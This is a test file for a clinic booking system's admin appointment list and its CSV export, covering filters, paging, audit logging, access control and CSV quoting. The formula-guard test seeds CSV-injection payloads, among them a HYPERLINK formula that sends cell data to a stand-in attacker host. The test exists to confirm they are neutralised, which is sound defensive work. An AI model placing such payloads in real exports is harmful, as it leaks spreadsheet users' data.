/**
 * The front desk's list of every appointment and its CSV export (design clinic-operations.md
 * section 3.4; section 7, issue 5, points 1 and 2): filters, keyset paging over a thousand
 * bookings, the audit trail of each read, RFC 4180 and the formula guard.
 */
import { and, eq, gte, sql } from 'drizzle-orm';
import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AdminBookingsPage, TreatmentAvailability } from '@clinic/shared';
import { auditLog, bookings, images, users } from '../../db/schema.ts';
import { bearer, buildTestApp, createSignedInPatients, signIn, slotTimes, treatmentsOn, type TestApp } from '../../test/helper.ts';
import { makeImage } from '../../test/images.ts';

const NOW = new Date('2030-06-05T10:15:00Z');
const ADMIN = { ADMIN_EMAIL: 'boss@clinic.test', ADMIN_PASSWORD: 'admin-password' };
/** The seeded days: nobody else in this file books on them. */
const SEED_DAYS = ['2030-07-01', '2030-07-02', '2030-07-03', '2030-07-04', '2030-07-05', '2030-07-06', '2030-07-07', '2030-07-08'];
const FIRST = SEED_DAYS[0]!;
const LAST = SEED_DAYS.at(-1)!;
const STATUSES = ['cancelled', 'completed', 'no_show', 'confirmed', 'confirmed', 'confirmed', 'confirmed'] as const;

type Item = AdminBookingsPage['items'][number];

/** RFC 4180: CRLF-separated records, fields quoted when they hold a comma, quote or line break. */
function parseCsv(withMark: string): string[][] {
  const text = withMark.replace(/^\uFEFF/, '');
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || record.length > 0) throw new Error('the CSV does not end with CRLF');
  return records;
}

describe('all appointments (admin)', () => {
  let t: TestApp;
  let token: string;
  let adminId: string;
  let treatments: TreatmentAvailability[];
  let doctors: { id: string; name: string }[];
  let withDoctors: { id: string; name: string };
  /** Every seeded booking as the database has it, in (starts_at, id) order. */
  let seeded: { id: string; startsAt: Date; status: string; treatmentId: string; doctorId: string | null; date: string }[];

  const admin = (options: InjectOptions) => t.app.inject({ ...options, headers: { ...options.headers, authorization: `Bearer ${token}` } });
  const list = async (query: Record<string, string | number>) => {
    const res = await admin({ url: `/api/admin/bookings?${new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]))}` });
    if (res.statusCode !== 200) throw new Error(`list failed: ${res.statusCode} ${res.body}`);
    return res.json<AdminBookingsPage>();
  };
  /** Every page of a filtered list, following nextCursor; how many calls it took. */
  const allPages = async (query: Record<string, string | number>) => {
    const items: Item[] = [];
    let cursor: string | null = null;
    let calls = 0;
    do {
      const page: AdminBookingsPage = await list({ ...query, ...(cursor ? { cursor } : {}) });
      calls++;
      items.push(...page.items);
      cursor = page.nextCursor;
      if (calls > 1000) throw new Error('paging does not end');
    } while (cursor);
    return { items, calls };
  };
  const auditsSince = (since: Date, action = 'booking.read-admin-list') =>
    t.db.select().from(auditLog).where(and(eq(auditLog.action, action), gte(auditLog.createdAt, since))).orderBy(auditLog.createdAt);
  const csv = (query: Record<string, string>) => admin({ url: `/api/admin/bookings.csv?${new URLSearchParams(query)}` });

  beforeAll(async () => {
    t = await buildTestApp(ADMIN, { now: () => NOW });
    token = (await signIn(t, ADMIN.ADMIN_EMAIL, ADMIN.ADMIN_PASSWORD)).token;
    adminId = (await t.db.select().from(users).where(eq(users.email, ADMIN.ADMIN_EMAIL)))[0]!.id;
    treatments = await treatmentsOn(t, FIRST);

    const [image] = await t.db.insert(images).values({ contentType: 'image/webp', content: await makeImage('webp', 8, 8), width: 8, height: 8 }).returning();
    doctors = [];
    for (const name of ['Dr Ada Front', 'Dr Bo Desk']) {
      const res = await admin({ method: 'POST', url: '/api/doctor', payload: { name, email: `${name.toLowerCase().replaceAll(' ', '.')}@clinic.test`, specialty: '', img: `/api/image/${image!.id}` } });
      expect(res.statusCode).toBe(201);
      doctors.push({ id: res.json<{ insertedId: string }>().insertedId, name });
    }
    const created = await admin({ method: 'POST', url: '/api/admin/treatments', payload: { name: 'Implant Review', price: 50, requiresDoctor: true, doctorIds: doctors.map((d) => d.id) } });
    expect(created.statusCode).toBe(201);
    withDoctors = { id: created.json<{ insertedId: string }>().insertedId, name: 'Implant Review' };

    // 8 days x (6 treatments' own queues + 2 doctors) x 16 slots = 1,024 bookings, straight in
    // the database; every 7th with another status.
    const slots = treatments[0]!.slots;
    const lanes = [
      ...treatments.map((x) => ({ treatmentId: x._id, treatmentName: x.name, doctorId: null as string | null, priceCents: x.price * 100 })),
      ...doctors.map((d) => ({ treatmentId: withDoctors.id, treatmentName: withDoctors.name, doctorId: d.id, priceCents: 5000 })),
    ];
    const values = SEED_DAYS.flatMap((date, d) =>
      lanes.flatMap((lane, l) =>
        slots.map((slot, s) => {
          const n = (d * lanes.length + l) * slots.length + s;
          return {
            ...lane, date, slot, ...slotTimes(date, slot),
            patientId: null, patientEmail: `seed${n}@example.com`, patientName: `Seed Patient ${n}`, phone: `555-${String(n).padStart(4, '0')}`,
            status: STATUSES[n % STATUSES.length]!, paid: n % 5 === 0,
            ...(STATUSES[n % STATUSES.length] === 'cancelled' ? { cancelledBy: n % 2 === 0 ? ('patient' as const) : ('admin' as const), cancelReason: `Reason ${n}` } : {}),
          };
        }),
      ),
    );
    for (let i = 0; i < values.length; i += 200) await t.db.insert(bookings).values(values.slice(i, i + 200));
    seeded = (await t.db.select().from(bookings).where(sql`${bookings.date} BETWEEN ${FIRST} AND ${LAST}`).orderBy(bookings.startsAt, bookings.id))
      .map((r) => ({ id: r.id, startsAt: r.startsAt, status: r.status, treatmentId: r.treatmentId, doctorId: r.doctorId, date: r.date }));
  });
  afterAll(() => t.close());

  it('pages through 1,024 bookings by keyset: each exactly once, in (starts_at, id) order, one audit entry per call', async () => {
    expect(seeded).toHaveLength(1024);
    const since = new Date(Date.now() - 1000);
    const before = (await auditsSince(since)).length;
    const { items, calls } = await allPages({ from: FIRST, to: LAST, limit: 37 });
    expect(calls).toBe(Math.ceil(1024 / 37));
    expect(items.map((b) => b._id)).toEqual(seeded.map((b) => b.id));
    expect(new Set(items.map((b) => b._id)).size).toBe(1024);
    // Eight lanes share every start time: the id breaks the ties, across page boundaries too.
    for (let i = 1; i < items.length; i++) {
      const [a, b] = [items[i - 1]!, items[i]!];
      expect(a.startsAt < b.startsAt || (a.startsAt === b.startsAt && a._id < b._id), `item ${i}`).toBe(true);
    }
    const audits = (await auditsSince(since)).slice(before);
    expect(audits).toHaveLength(calls);
    for (const entry of audits) {
      expect(entry).toMatchObject({ actorId: adminId, actorEmail: ADMIN.ADMIN_EMAIL, target: 'bookings' });
      expect(entry.detail).toMatchObject({ from: FIRST, to: LAST });
    }
    expect(audits.map((a) => a.detail.count)).toEqual([...Array(calls - 1).fill(37), 1024 - 37 * (calls - 1)]);
  });

  it('answers each booking with its patient, payment and hours, and no-store', async () => {
    const res = await admin({ url: `/api/admin/bookings?from=${FIRST}&to=${FIRST}&treatmentId=${withDoctors.id}&limit=1` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
    const [first] = res.json<AdminBookingsPage>().items;
    expect(first).toMatchObject({
      treatmentId: withDoctors.id, treatment: withDoctors.name, date: FIRST, slot: '08.00 AM - 08.30 AM',
      doctor: { _id: expect.any(String), name: expect.stringMatching(/^Dr /) },
      patientAccount: { name: expect.stringMatching(/^Seed Patient /), email: expect.stringMatching(/@example\.com$/), phone: expect.stringMatching(/^555-/) },
      outsideHours: false, payment: { paid: expect.any(Boolean), refunded: 0 },
    });
  });

  it('filters by range, status, doctor, treatment and their combination', async () => {
    const count = (f: (b: (typeof seeded)[number]) => boolean) => seeded.filter(f).length;
    const day = SEED_DAYS[2]!;
    const oneDay = await allPages({ from: day, to: day, limit: 200 });
    expect(oneDay.items).toHaveLength(128);
    expect(oneDay.items.every((b) => b.date === day)).toBe(true);
    const twoDays = await allPages({ from: SEED_DAYS[3]!, to: SEED_DAYS[4]!, limit: 200 });
    expect(twoDays.items.map((b) => b._id)).toEqual(seeded.filter((b) => b.date === SEED_DAYS[3] || b.date === SEED_DAYS[4]).map((b) => b.id));

    for (const status of ['cancelled', 'completed', 'no_show', 'confirmed'] as const) {
      const { items } = await allPages({ from: FIRST, to: LAST, status, limit: 200 });
      // The seed holds every status, so each filter has rows to check.
      expect(items.length, status).toBeGreaterThan(0);
      expect(items.length, status).toBe(count((b) => b.status === status));
      expect(items.every((b) => b.status === status), status).toBe(true);
    }
    const [ada, bo] = [doctors[0]!, doctors[1]!];
    const byDoctor = await allPages({ from: FIRST, to: LAST, doctorId: ada.id, limit: 200 });
    expect(byDoctor.items).toHaveLength(8 * 16);
    expect(byDoctor.items.every((b) => b.doctor?._id === ada.id)).toBe(true);
    const cleaning = treatments.find((x) => x.name === 'Teeth Cleaning')!;
    const byTreatment = await allPages({ from: FIRST, to: LAST, treatmentId: cleaning._id, limit: 200 });
    expect(byTreatment.items.map((b) => b._id)).toEqual(seeded.filter((b) => b.treatmentId === cleaning._id).map((b) => b.id));
    const combined = await allPages({ from: day, to: day, doctorId: bo.id, status: 'cancelled', treatmentId: withDoctors.id, limit: 200 });
    expect(combined.items.map((b) => b._id)).toEqual(seeded.filter((b) => b.date === day && b.doctorId === bo.id && b.status === 'cancelled').map((b) => b.id));
    expect(combined.items.length).toBeGreaterThan(0);
  });

  it('finds text in the patient’s name, email and phone and the treatment’s name, case-insensitively, with % and _ taken literally', async () => {
    const day = '2030-07-20';
    const [zelda] = await createSignedInPatients(t, 1, 'walkin');
    const x = treatments[0]!;
    const base = { treatmentId: x._id, treatmentName: x.name, date: day, priceCents: 100 };
    await t.db.insert(bookings).values([
      { ...base, slot: '08.00 AM - 08.30 AM', ...slotTimes(day, '08.00 AM - 08.30 AM'), patientEmail: 'zq@example.com', patientName: 'Zelda Quist', phone: '555-9001' },
      { ...base, slot: '08.30 AM - 09.00 AM', ...slotTimes(day, '08.30 AM - 09.00 AM'), patientEmail: 'other@example.com', patientName: 'Ann 100% Sure', phone: '555-9002' },
      { ...base, slot: '09.00 AM - 09.30 AM', ...slotTimes(day, '09.00 AM - 09.30 AM'), patientEmail: zelda!.email, patientName: 'Someone', phone: '+44 20 7946 0000' },
      // Before the clinic opens: kept, and flagged.
      { ...base, slot: '07.00 AM - 07.30 AM', ...slotTimes(day, '07.00 AM - 07.30 AM'), patientEmail: 'early@example.com', patientName: 'Early Bird', phone: '' },
    ]);
    const names = async (q: string) => (await list({ from: day, to: day, q })).items.map((b) => b.patientAccount.name).sort();
    expect(await names('zELDA')).toEqual(['Zelda Quist']);
    expect(await names('zelda')).toEqual(['Zelda Quist']);
    expect(await names(zelda!.email.toUpperCase())).toEqual(['Someone']);
    expect(await names('7946')).toEqual(['Someone']);
    expect(await names(x.name.slice(2, 9).toLowerCase())).toEqual(['Ann 100% Sure', 'Early Bird', 'Someone', 'Zelda Quist']);
    expect(await names('100%')).toEqual(['Ann 100% Sure']);
    expect(await names('%')).toEqual(['Ann 100% Sure']);
    expect(await names('_')).toEqual([]);
    expect(await names('nobody-like-this')).toEqual([]);
    const early = (await list({ from: day, to: day, q: 'Early' })).items[0]!;
    expect(early.outsideHours).toBe(true);
  });

  it('refuses bad ranges and cursors (400), patients (403) and strangers (401)', async () => {
    expect((await admin({ url: '/api/admin/bookings?from=2030-01-01&to=2031-01-03' })).statusCode).toBe(400);
    expect((await admin({ url: `/api/admin/bookings?from=${LAST}&to=${FIRST}` })).statusCode).toBe(400);
    expect((await admin({ url: `/api/admin/bookings?from=${FIRST}` })).statusCode).toBe(400);
    expect((await admin({ url: `/api/admin/bookings?from=${FIRST}&to=${LAST}&limit=201` })).statusCode).toBe(400);
    const badCursor = await admin({ url: `/api/admin/bookings?from=${FIRST}&to=${LAST}&cursor=bm90LWEtY3Vyc29y` });
    expect(badCursor.statusCode).toBe(400);
    expect(badCursor.json()).toMatchObject({ code: 'validation_failed', errors: { cursor: [expect.any(String)] } });
    expect((await admin({ url: '/api/admin/bookings.csv?from=2030-01-01&to=2031-01-03' })).statusCode).toBe(400);

    const [patient] = await createSignedInPatients(t, 1, 'nosy');
    const since = new Date(Date.now() - 1000);
    const before = (await auditsSince(since)).length;
    for (const url of [`/api/admin/bookings?from=${FIRST}&to=${LAST}`, `/api/admin/bookings.csv?from=${FIRST}&to=${LAST}`]) {
      const res = await t.app.inject({ url, headers: bearer(patient!) });
      expect(res.statusCode, url).toBe(403);
      expect(res.body).not.toContain('Seed Patient');
      expect((await t.app.inject({ url })).statusCode, url).toBe(401);
    }
    expect((await auditsSince(since)).length).toBe(before);
  });

  it('exports the same list as RFC 4180 CSV with a header row, every row once', async () => {
    const day = SEED_DAYS[5]!;
    const res = await csv({ from: day, to: day });
    expect(res.statusCode).toBe(200);
    // A byte-order mark, so that Excel reads UTF-8 (accented names) rather than the local code page.
    expect(res.body.startsWith('\uFEFFDate,')).toBe(true);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[^"]+\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    const records = parseCsv(res.body);
    expect(records[0]).toEqual([
      'Date', 'Time', 'Status', 'Treatment', 'Doctor', 'Patient', 'Email', 'Phone', 'Price', 'Paid', 'Refunded', 'Outside hours', 'Id',
      'Start', 'Cancelled by', 'Cancel reason',
    ]);
    const ids = records.slice(1).map((r) => r[12]);
    expect(ids).toEqual(seeded.filter((b) => b.date === day).map((b) => b.id));
    expect(records.slice(1).every((r) => r.length === 16 && r[0] === day)).toBe(true);
    // `Start` is the date and the 24-hour time: it sorts as text, in the rows' order.
    const starts = records.slice(1).map((r) => r[13]!);
    expect(starts[0]).toMatch(new RegExp(`^${day} \\d{2}:\\d{2}$`));
    expect(records.slice(1).find((r) => r[1] === '01.00 PM - 01.30 PM')?.[13]).toBe(`${day} 13:00`);
    expect([...starts].sort()).toEqual(starts);
    // A cancelled one says who cancelled and why; the others leave both empty.
    for (const r of records.slice(1)) {
      if (r[2] === 'cancelled') expect([['patient', 'clinic'].includes(r[14]!), r[15]]).toEqual([true, expect.stringMatching(/^Reason \d+$/)]);
      else expect([r[14], r[15]]).toEqual(['', '']);
    }
    expect(records.slice(1).some((r) => r[2] === 'cancelled')).toBe(true);

    // The same filters as the list; more than one page of it (200) comes out whole.
    const all = parseCsv((await csv({ from: FIRST, to: LAST })).body);
    expect(all.slice(1).map((r) => r[12])).toEqual(seeded.map((b) => b.id));
    const cancelled = parseCsv((await csv({ from: FIRST, to: LAST, status: 'cancelled', doctorId: doctors[0]!.id })).body).slice(1);
    expect(cancelled.map((r) => r[12])).toEqual(seeded.filter((b) => b.status === 'cancelled' && b.doctorId === doctors[0]!.id).map((b) => b.id));
    expect(cancelled.length).toBeGreaterThan(0);
    expect(cancelled.every((r) => r[2] === 'cancelled' && r[4] === doctors[0]!.name)).toBe(true);
  });

  // Design section 3.4: "one entry per request with its filter, not per row".
  it('audits one CSV export as one read, with its filter', async () => {
    const since = new Date(Date.now() - 1000);
    const before = (await auditsSince(since, 'booking.export-csv')).length;
    const pagesBefore = (await auditsSince(since)).length;
    const res = await csv({ from: FIRST, to: LAST, status: 'confirmed' });
    expect(res.statusCode).toBe(200);
    const audits = (await auditsSince(since, 'booking.export-csv')).slice(before);
    expect(audits.map((a) => a.detail)).toEqual([expect.objectContaining({ from: FIRST, to: LAST, status: 'confirmed' })]);
    // The pages it read for the file are not audited one by one.
    expect((await auditsSince(since)).length).toBe(pagesBefore);
  });

  it('quotes separators, quotes and line breaks, and puts an apostrophe wherever a field could start with = + - @', async () => {
    const day = '2030-07-21';
    const x = treatments[1]!;
    const rows = [
      { slot: '08.00 AM - 08.30 AM', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', email: 'formula@example.com', phone: '+1 555 0100' },
      { slot: '08.30 AM - 09.00 AM', name: '-1+2', email: '@sum@example.com', phone: '-5' },
      { slot: '09.00 AM - 09.30 AM', name: 'Lee, Ann "The Boss"', email: 'lee@example.com', phone: '555\r\n0101' },
      { slot: '09.30 AM - 10.00 AM', name: '@SUM(A1:A9)', email: 'plain@example.com', phone: '\t=1' },
      { slot: '10.00 AM - 10.30 AM', name: 'Plain Name', email: 'a=b@example.com', phone: '5-5' },
      // Read by a spreadsheet whose separator is `;`: the formula would be a field of its own.
      { slot: '10.30 AM - 11.00 AM', name: 'Ann;=1+2', email: 'semi@example.com', phone: '555|@x' },
    ];
    await t.db.insert(bookings).values(rows.map((r) => ({
      treatmentId: x._id, treatmentName: x.name, date: day, slot: r.slot, ...slotTimes(day, r.slot),
      patientEmail: r.email, patientName: r.name, phone: r.phone, priceCents: 1500,
    })));
    const res = await csv({ from: day, to: day });
    expect(res.statusCode).toBe(200);
    expect(res.body.endsWith('\r\n')).toBe(true);
    const lines = res.body.split('\r\n');
    // Formula-like cells start with an apostrophe, inside the quotes when quoted.
    expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",formula@example.com,'+1 555 0100,`);
    expect(lines[2]).toContain(`,'-1+2,'@sum@example.com,'-5,`);
    expect(lines[3]).toContain(`,"Lee, Ann ""The Boss""",lee@example.com,"555\r\n0101"`.split('\r\n')[0]!);
    const records = parseCsv(res.body).slice(1);
    expect(records.map((r) => [r[5], r[6], r[7]])).toEqual([
      [`'${rows[0]!.name}`, 'formula@example.com', "'+1 555 0100"],
      ["'-1+2", "'@sum@example.com", "'-5"],
      ['Lee, Ann "The Boss"', 'lee@example.com', '555\r\n0101'],
      ["'@SUM(A1:A9)", 'plain@example.com', "'\t'=1"],
      ['Plain Name', 'a=b@example.com', '5-5'],
      ["Ann;'=1+2", 'semi@example.com', "555|'@x"],
    ]);
    expect(res.body).toContain(`,"Ann;'=1+2",semi@example.com,"555|'@x",`);
    expect(records.map((r) => r[8])).toEqual(Array(6).fill('15.00'));
    // Nothing in the export starts a cell with a formula character.
    for (const record of records) for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    // Nor a field of a reader that splits on another separator (or ignores quotes).
    for (const field of res.body.split(/[,;|\t\r\n]/)) expect(field, field).not.toMatch(/^[\s"]*[=+\-@]/);
  });
});
